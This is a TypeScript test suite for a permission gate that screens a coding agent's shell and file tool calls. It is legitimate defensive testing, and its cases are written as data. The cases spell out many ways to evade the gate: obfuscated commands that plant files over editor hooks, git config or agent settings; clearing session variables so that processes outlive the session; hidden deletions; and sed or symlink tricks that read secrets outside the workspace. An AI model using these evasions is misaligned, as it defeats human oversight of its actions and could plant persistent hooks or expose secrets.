  it("a person's rule matches the commands it names, with quotes written any way", () => {
    const allowed = (rule: string, command: string) => gate({ allow: [`Bash(${rule})`] }).run(command).verdict;
    expect(allowed('curl http://localhost:3000/api?x=1&y=2', 'curl "http://localhost:3000/api?x=1&y=2"')).toBe('allow');
    expect(allowed('find . -name *.log', 'find . -name "*.log"')).toBe('allow');
    expect(allowed('echo héllo', 'echo héllo')).toBe('allow');
    expect(allowed('git log HEAD^', 'git log HEAD^')).toBe('allow');
    expect(allowed('cat *.md', 'cat "my notes.md"')).toBe('allow');
    expect(allowed('git commit -m *', 'git commit -m "fix the bug"')).toBe('allow');
    expect(allowed('echo a b', "echo 'a b'")).toBe('ask');
  });

  it('names a quoted word as one word in the rule it shows', () => {
    expect(suggestedRule('Bash', { command: 'git commit -m "fix the bug"' })).toBe('Bash(git commit -m fix\\\\ the\\\\ bug)');
    expect(suggestedRule('Bash', { command: "rm '*' b*" })).toBe('Bash(rm \\\\\\* b\\*)');
  });
});

describe('file rules name a kind of access, as in Claude Code', () => {
  it('Read deny rules cover Grep and Glob', () => {
    const { tool } = gate({ deny: ['Read(.env)', 'Read(secrets/**)'] });
    expect(tool('Grep', { pattern: '.', path: '.env' })).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(tool('Grep', { pattern: '.', glob: '.env' })).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(tool('Grep', { pattern: '.', path: 'secrets' })).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(tool('Glob', { pattern: 'secrets/*' })).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(tool('Grep', { pattern: 'secrets', path: 'src' })).toMatchObject({ verdict: 'allow' });
  });

  it('Edit and Write deny rules cover each other', () => {
    const write = (file: string) => ({ file_path: file, content: 'x' });
    expect(gate({ mode: 'acceptEdits', deny: ['Edit(.env)'] }).tool('Write', write('.env'))).toMatchObject({ verdict: 'deny' });
    const edit = { file_path: '.env', old_string: 'a', new_string: 'b' };
    expect(gate({ mode: 'acceptEdits', deny: ['Write(.env)'] }).tool('Edit', edit)).toMatchObject({ verdict: 'deny' });
    expect(gate({ ask: ['Edit(src/**)'], mode: 'acceptEdits' }).tool('Write', write('src/a.ts'))).toMatchObject({ verdict: 'ask' });
  });
});

describe('the protected-file check, more spellings', () => {
  it('asks after a cd to a place only known when the line runs', () => {
    expect(gate({ mode: 'bypassPermissions' }).run('d=hooks; cd $d && cp evil run')).toMatchObject({ verdict: 'ask', level: 'P4' });
  });

  it('does not ask for text that only names the folder of a script', () => {
    expect(gate({ mode: 'bypassPermissions' }).run('grep -r hooksPath src')).toMatchObject({ verdict: 'allow', level: 'P8' });
  });

  it('a deny rule might match code hidden in a subscript', () => {
    const { run } = gate({ allow: ['Bash'], deny: ['Bash(rm *)'] });
    expect(run("x='a[$(rm keep)]'; test -v 'b[x]'")).toMatchObject({ verdict: 'ask' });
  });

  it('a deny rule might match what bash runs from a value or a rebound name, in bypassPermissions mode too', () => {
    const { run } = gate({ mode: 'bypassPermissions', deny: ['Bash(rm *)'] });
    for (const command of ['x=\'$(rm keep)\'; echo "v: ${x@P}"', 'hash -p /bin/rm ls; ls keep', 'source <(echo rm keep)']) {
      expect(run(command), command).toMatchObject({ verdict: 'ask', level: 'P6' });
    }
    expect(run('echo $((1+2)); set -x; ls')).toMatchObject({ verdict: 'allow', level: 'P8' });
  });
});

describe('bounded work on long lines', () => {
  const pathsProblem = (command: string) => {
    const analysis = analyzeBashCommand(command);
    expect(analysis.kind).toBe('parsed');
    return argumentPathsProblem(analysis as ParsedBash, { workspaceRoot: ws, cwd: ws });
  };

  it('leaves a `bash -c` nested in itself until its quoting is thousands of nodes to a person, in every mode', () => {
    const quote = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;
    let command = 'echo a\'b\' "c" && cp x .vscode/hooks.json';
    for (let level = 0; level < 9; level++) command = `bash -c ${quote(command)}`;
    for (const mode of ['default', 'bypassPermissions'] as const) {
      expect(gate({ mode }).run(command)).toMatchObject({ verdict: 'ask', reason: expect.stringContaining('too complex to analyze') });
    }
    for (let level = 0; level < 2; level++) command = `bash -c ${quote(command)}`;
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({
      verdict: 'ask',
      reason: expect.stringContaining('too long to analyze'),
    });
  });

  it('leaves a word too long or too deep to resolve as a path to a person, quickly', () => {
    for (const word of [`src/${'a'.repeat(70_000)}*`, 'a/'.repeat(2_000)]) {
      const start = Date.now();
      expect(pathsProblem(`cat ${word}`)).toMatch(/too long to check as a path/);
      expect(Date.now() - start).toBeLessThan(2_000);
    }
  });

  it('leaves a line whose globs would list more entries than it checks to a person', () => {
    // `.*` matches `.` and `..` too: each step at least doubles the paths.
    expect(pathsProblem(`ls ${'.*/'.repeat(20)}x`)).toBe(`its globs would list more than ${MAX_LISTED} entries to check`);
  });

  it('leaves a line with more words than it checks to a person', () => {
    const many = `echo ${Array.from({ length: 1_200 }, (_, i) => `src/f${i}`).join(' ')}`;
    expect(gate({ allow: ['Bash(echo *)'] }).run(many)).toMatchObject({ verdict: 'ask', level: 'P4' });
    expect(gate({ mode: 'bypassPermissions' }).run(many)).toMatchObject({ verdict: 'ask', level: 'P4' });
    expect(gate({ mode: 'bypassPermissions' }).run('echo src/a src/b')).toMatchObject({ verdict: 'allow' });
  });
});

describe('a brace expansion or extglob with quoting or an expansion that dropping quotes leaves asks', () => {
  it.each([
    "cp {evil.json,.vsco$'d'e/hook$'s'.jso$'n'}",
    "cp {evil.json,.vsco$'d'e/task$'s'.jso$'n'}",
    "cp {evil.json,~/.cl$'a'ude/setting$'s'.jso$'n'}",
    "cp {evil.json,.gi$'t'/config}",
    "cp {evil.json,x.code-workspac$'e'}",
    'cp {evil.json,x.code-workspa$"ce"}',
    'cp {e,.gi\\t/config}',
    "cp {evil.json,sub/.gi$(printf 'x t' | tr -d ' x')/config}",
    'cp {evil.json,.vsc`printf o`de/hook`printf s`.json}',
    'cp {evil.json,$HOME/.claude/settings.json}',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  // `${x,,}` is a parameter expansion (unquoted, it asks as a computed path).
  it.each(['mkdir -p src/{a,b,c}', 'touch f{1..3}.txt', 'echo "${x,,}"', 'find . -exec cmd {} \\;', 'echo \'{a,b}\' "$x"'])(
    '%j does not',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
    },
  );
});

describe('a brace word ends where a redirection, a subshell or a process substitution does, as bash reads it', () => {
  it.each([
    'tee .vs{c,}ode/hook{s,}.json<evil.json >/dev/null',
    'cat evil.json | (tee .vs{c,}ode/hook{s,}.json) >/dev/null',
    'mkdir -p sub && cat gitfile | (tee sub/.g{i,}t)',
    'mkdir -p sub && tee sub/.g{i,}t<gitfile',
    '(touch team.code-works{p,}ace)',
    'touch team.code-works{p,}ace>/dev/null',
    '!(tee sub/.g{i,}t) <gitfile',
    'cat evil.json | cat <(tee .vs{c,}ode/hook{s,}.json)',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each(['(mkdir -p src/{a,b,c})', 'echo {a,b}>out.txt', 'diff <(sort a.txt) <(sort b.txt)', 'f() { touch f{1..3}.txt; }; f'])(
    '%j does not',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
    },
  );
});

describe('shell arithmetic is no extglob or brace expansion', () => {
  it.each(['n=4; echo $((n*(n+1)/2))', 'total=5 count=2; echo "$((total+(count*2)))"', 'n=1; ((n*(n+1) > 1)) && echo big'])(
    '%j runs in bypassPermissions mode',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
    },
  );

  it('a brace word in nested subshells written as `((` asks', () => {
    expect(gate({ mode: 'bypassPermissions' }).run('((tee .vs{c,}ode/hook{s,}.json) <evil.json)')).toMatchObject({
      verdict: 'ask',
      system: true,
    });
  });
});

describe('a brace group that holds a slash is expanded before the name is read', () => {
  it.each(["printf '{}' | tee {team.code-workspace,/dev/null}", 'mkdir -p sub && touch sub{/team.code-workspace,}'])(
    '%j asks in bypassPermissions mode',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
    },
  );

  it('a glob in such a group that matches a workspace file asks', () => {
    mkdirSync(join(ws, 'sub'));
    writeFileSync(join(ws, 'sub', 'team.code-workspace'), '{}');
    expect(gate({ mode: 'bypassPermissions' }).run('cp evil.json {x,sub/}*')).toMatchObject({ verdict: 'ask', system: true });
    expect(gate({ mode: 'bypassPermissions' }).run('cp evil.json {x,src/}*')).toMatchObject({ verdict: 'allow' });
  });
});

describe('the workspace-file glob check of one line is bounded', () => {
  it('a line whose globs would compare more folder entries than it checks asks, and returns', () => {
    mkdirSync(join(ws, 'big'));
    for (let i = 0; i < 20_000; i++) writeFileSync(join(ws, 'big', `f${i}`), '');
    const words = Array.from({ length: 400 }, (_, i) => `big/x${i}*/a.code-workspac?`).join(' ');
    expect(gate({ mode: 'bypassPermissions' }).run(`ls ${words}`)).toMatchObject({
      verdict: 'ask',
      system: true,
      reason: expect.stringContaining('may name a VS Code workspace file'),
    });
    expect(gate({ mode: 'bypassPermissions' }).run('ls big/x1*/a.code-workspac?')).toMatchObject({ verdict: 'allow' });
  }, 120_000);
});

describe('a glob that matches a workspace file in a subfolder asks, as its name would', () => {
  beforeEach(() => {
    mkdirSync(join(ws, 'sub'));
    writeFileSync(join(ws, 'sub', 'team.code-workspace'), '{}');
  });

  it.each([
    'cp evil.json sub/team.code-worksp?ce',
    'cp evil.json sub/team.code-workspac[e]',
    'cp evil.json sub/TEAM.CODE-WORKSPAC?',
    'cp evil.json sub/*',
    'cp evil.json sub/@(team).code-worksp?ce',
    'cp evil.json sub/team.code-worksp?c{e,}',
    'cp evil.json s*/team.code-worksp?ce',
    'cp evil.json s?b/*',
    'cp evil.json sub/*{e,f}',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'protected file', system: true });
  });

  it.each(['ls *.json', 'cp x src/*.ts dst/', 'ls sub/*.json', 'ls src/*', 'cp x src/team.code-worksp?ce', 'cat sr?/lea*'])(
    '%j does not',
    (command) => {
      expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
    },
  );
});

describe('a line that may drop the variables by which what it starts ends with the session asks', () => {
  it.each([
    'unset HOOKPILOT_BASH_SESSION HOOKPILOT_RUN_ID; nohup sleep 100 &',
    'env -u HOOKPILOT_BASH_SESSION -u HOOKPILOT_RUN_ID setsid sleep 100 &',
    'export -n HOOKPILOT_RUN_ID; sleep 100 &',
    'HOOKPILOT_BASH_SESSION= nohup sleep 100 &',
    "unset HOOKPILOT_$'RUN'_ID",
    `bash -c 'unset HOOKPILOT_BASH"_SESSION"'`,
    'env -i setsid sleep 100',
    'env --ignore-environment sleep 100 &',
    'env -u X -i sleep 100 & disown',
    'exec -c nohup sleep 100',
  ])('%j asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'session processes', system: true });
  });

  it.each([
    'v=HOOKPILOT_BASH w=HOOKPILOT_RUN; unset ${v}_SESSION ${w}_ID; sleep 300 >/dev/null 2>&1 &',
    'unset $x; sleep 100 &',
    'unset ${!HOOKPILOT@}; nohup sleep 100',
    'export -n "$x"; setsid sleep 100',
    'declare -n r=x; r=1; sleep 100 &',
    'printf -v "${v}_ID" x; sleep 100 &',
    'read -r "$x" <<< x; sleep 100 &',
    'env -u "$x" setsid sleep 100',
    'env "${v}_ID=" setsid sleep 100',
    'c=unset; eval "$c ${v}_ID"; sleep 100 &',
  ])('%j (a variable whose name is built as it runs) asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'session processes', system: true });
  });

  it.each([
    'env -S "-i sleep 300" >/dev/null 2>&1 &',
    "env -S'-i sleep 300' &",
    'env --split-string="-i sleep 300" &',
    'env -vS "- sleep 300" &',
    'env -S "$opts sleep 300" &',
    'env --ignore sleep 300 &',
    'setpriv --reset-env sleep 300 &',
  ])('%j (an environment cleared past a split string, an abbreviation or setpriv) asks in bypassPermissions mode', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', source: 'session processes', system: true });
  });

  it.each([
    'env -i make test',
    'sleep 1 & wait',
    'env FOO=1 nohup make >/dev/null 2>&1 &',
    'make 2>&1 && env -i true',
    'unset $x',
    'export PATH=$PATH:/opt/x; npm run dev &',
    'env -S "FOO=1 make" &',
  ])('%j does not', (command) => {
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'allow' });
  });
});

describe('the brace and extglob word reader takes time linear in the line', () => {
  // In a comment the line parses, and the reader still reads its text.
  it('a line of 20,000 nested negated groups is read to a depth, then asks, and returns', () => {
    const nested = `true # ${'!('.repeat(20_000)}tee notes.txt${')'.repeat(20_000)}`;
    expect(gate({ mode: 'bypassPermissions' }).run(nested)).toMatchObject({ verdict: 'ask' });
  }, 20_000);

  it('a line of 40,000 unclosed arithmetic openers returns', () => {
    expect(gate({ mode: 'bypassPermissions' }).run(`true # ${'(( '.repeat(40_000)}`)).toMatchObject({ verdict: 'allow' });
  }, 20_000);
});

describe("a sed script's file commands are checked as the paths they name", () => {
  it.each([
    ["sed -n '1w ../outside/planted' src/a.ts", 'a `w` outside the workspace'],
    ["sed -n 'r ../outside/secret.txt' src/a.ts", 'an `r` outside the workspace'],
    ["sed -n '$R out/secret.txt' src/a.ts", 'an `R` through a link that leads out'],
    ["sed -n -e p -e 'W ../outside/x' src/a.ts", 'a `W` in a second `-e`'],
    ["sed --expression='1{W ../outside/x' -e '}' src/a.ts", 'a `W` in a block'],
    ["sed -n 's/a/b/gw ../outside/x' src/a.ts", 'the `s///w` flag'],
    ["sed -n '1e id' src/a.ts", 'the `e` command runs a shell command'],
    ["sed 's/x/id/e' src/a.ts", 'the `s///e` flag runs the pattern space'],
    ['sed -f script.sed src/a.ts', 'a script file: its commands are not known'],
    ['sed -nfscript.sed src/a.ts', 'a script file in an option group'],
  ])('Bash(sed *) asks for %j (%s)', (command) => {
    expect(gate({ allow: ['Bash(sed *)'] }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
  });

  it.each([
    "sed -n 's/a/b/w copy.txt' src/a.ts",
    "sed -n '1,/x/Ip;$=' src/a.ts",
    "sed -i -e 's/a/b/g' src/a.ts",
    // `-ie` is `-i` with the backup suffix `e`; the script is the first operand.
    "sed -ie 's/a/b/' src/a.ts",
    // Text that `a` appends runs to the end of its line: no `w` command there.
    "sed '1a w ../outside/x' src/a.ts",
  ])('Bash(sed *) still grants %j', (command) => {
    writeFileSync(join(ws, 'src', 'a.ts'), '');
    expect(gate({ allow: ['Bash(sed *)'] }).run(command), command).toMatchObject({ verdict: 'allow', level: 'P7' });
  });

  it('a `w` through a link to a hook file asks in bypassPermissions mode', () => {
    symlinkSync(join(ws, '.vscode', 'hooks.json'), join(ws, 'src', 'cfg'));
    expect(gate({ mode: 'bypassPermissions' }).run("sed -n 'w src/cfg' src/a.ts")).toMatchObject({
      verdict: 'ask',
      level: 'P4',
      system: true,
    });
  });
});

describe('a recursive read that follows links reads each link below its folders, as if the line named it', () => {
  it.each([
    ['grep *', 'grep -R TOKEN .'],
    ['grep *', 'grep -nR TOKEN src'],
    ['grep *', 'grep --dereference-recursive TOKEN src'],
    ['ls *', 'ls -RL'],
    ['ls *', 'ls -lR --dereference src'],
    ['find *', 'find -L src -name x'],
    ['find *', 'find src -follow -name x'],
    ['cp *', 'cp -rL src copy'],
    ['du *', 'du -L'],
    ['rsync *', 'rsync -aL src/ copy/'],
    ['rg *', 'rg -L TOKEN'],
  ])('Bash(%s) asks for %j', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({
      verdict: 'ask',
      level: 'P8',
      reason: 'commands need approval in default mode',
    });
  });

  it.each([
    // Plain -r follows only links its words name.
    ['grep *', 'grep -r TOKEN src'],
    ['grep *', 'grep -R TOKEN secrets'],
    ['grep *', 'grep -e R -r TOKEN src'],
    ['ls *', 'ls -R src'],
    ['find *', 'find src -name x'],
  ])('Bash(%s) still grants %j', (rule, command) => {
    expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'allow', level: 'P7' });
  });

  describe('with a linked package below `lib` that leads out', () => {
    beforeEach(() => {
      for (const dir of ['lib/pkg', '-pkg']) mkdirSync(join(ws, dir), { recursive: true });
      symlinkSync(join(base, 'outside'), join(ws, 'lib', 'pkg', 'shared'));
      symlinkSync(join(base, 'outside'), join(ws, '-pkg', 'shared'));
    });

    it.each([
      // GNU getopt takes any unambiguous abbreviation of a long option.
      ['grep *', 'grep --deref TOKEN lib'],
      ['ls *', 'ls -L --recur lib'],
      ['cp *', 'cp -r --deref lib copy'],
      ['tar *', 'tar --create --deref -f copy.tar lib'],
      // Programs that follow the links below their folders by default or by an option.
      ['diff *', 'diff -rN lib secrets'],
      ['tar *', 'tar -chf copy.tar lib'],
      ['tar *', 'tar chf copy.tar lib'],
      ['zip *', 'zip -qr copy.zip lib'],
      ['chmod *', 'chmod -R -L u+w lib'],
      ['chown *', 'chown -RL nobody lib'],
      ['chgrp *', 'chgrp -R -L nogroup lib'],
      ['tree *', 'tree -l lib'],
      ['fd *', 'fd -L x lib'],
      ['fd *', 'fd --follow x lib'],
      // A word that may name another folder than it shows: the current one is walked too.
      ['grep *', 'grep -R TOKEN secrets lib/*'],
      ['grep *', 'grep -R TOKEN secrets -- -pkg'],
      // The search pattern names a folder, and the search is of the current one.
      ['grep *', 'grep -R secrets'],
      ['rg *', 'rg -L secrets'],
      ['fd *', 'fd -L secrets'],
    ])('Bash(%s) asks for %j', (rule, command) => {
      expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
    });

    it.each([
      ['grep *', 'grep -r --dev=skip TOKEN lib'],
      ['diff *', 'diff lib secrets'],
      ['tar *', 'tar -cf copy.tar lib'],
      ['zip *', 'zip -qry copy.zip lib'],
      ['chmod *', 'chmod -R u+w lib'],
      ['tree *', 'tree lib'],
      ['grep *', 'grep -R TOKEN secrets'],
    ])('Bash(%s) still grants %j', (rule, command) => {
      expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'allow', level: 'P7' });
    });
  });

  it('finds a link that leads out below a linked folder inside the workspace', () => {
    mkdirSync(join(ws, 'lib'));
    symlinkSync(join(base, 'outside'), join(ws, 'lib', 'shared'));
    symlinkSync(join(ws, 'lib'), join(ws, 'secrets', 'lib'));
    expect(gate({ allow: ['Bash(grep *)'] }).run('grep -R TOKEN secrets')).toMatchObject({ verdict: 'ask', level: 'P8' });
  });

  it('a link to the hook folder below the folder asks in bypassPermissions mode; plain -r does not follow it', () => {
    symlinkSync(join(ws, '.vscode'), join(ws, 'secrets', 'vs'));
    expect(gate({ mode: 'bypassPermissions' }).run('grep -R TOKEN secrets')).toMatchObject({
      verdict: 'ask',
      level: 'P4',
      reason: expect.stringContaining('secrets/vs'),
    });
    expect(gate({ mode: 'bypassPermissions' }).run('grep -r TOKEN secrets')).toMatchObject({ verdict: 'allow', level: 'P8' });
  });

  it(`a folder with more than ${MAX_WALKED} entries to walk asks where a rule grants the line, and returns; not in bypassPermissions mode`, () => {
    mkdirSync(join(ws, 'secrets', 'wide'));
    for (let i = 0; i <= MAX_WALKED; i++) writeFileSync(join(ws, 'secrets', 'wide', `f${i}`), '');
    const start = performance.now();
    expect(gate({ allow: ['Bash(grep *)'] }).run('grep -R TOKEN secrets')).toMatchObject({ verdict: 'ask', level: 'P8' });
    expect(performance.now() - start).toBeLessThan(2_000);
    // The protected-file check of every mode is best effort: a big node_modules must not make `grep -R x .` ask.
    expect(gate({ mode: 'bypassPermissions' }).run('grep -R TOKEN .')).toMatchObject({ verdict: 'allow' });
    // Making the entries takes seconds on a busy machine.
  }, 30_000);
});

describe('the protected-file check reads a name that printf decodes itself, in every mode', () => {
  it.each([
    `printf -v f '\\x2evscode/hook\\x73.json'; cp src/a.ts "$f"`,
    `cp src/a.ts "$(printf '\\056vscode/hook\\163.json')"`,
    `cp src/a.ts "$(printf %b '\\0056vscode/hook\\0163.json')"`,
    `printf '\\u002evscode/hook\\U00000073.json' | xargs cp src/a.ts`,
    // A value printf made is the format of the next: decoded twice.
    `printf -v a '\\\\x2evscode/hook\\\\x73.json'; printf -v f "$a"; cp src/a.ts "$f"`,
  ])('asks for %j under the bare Bash rule and in bypassPermissions mode', (command) => {
    expect(gate({ allow: ['Bash'] }).run(command)).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
  });

  it('leaves other escapes alone', () => {
    expect(gate({ mode: 'bypassPermissions' }).run("printf '\\x41\\0101\\n' > src/out.txt")).toMatchObject({
      verdict: 'allow',
      level: 'P8',
    });
  });
});
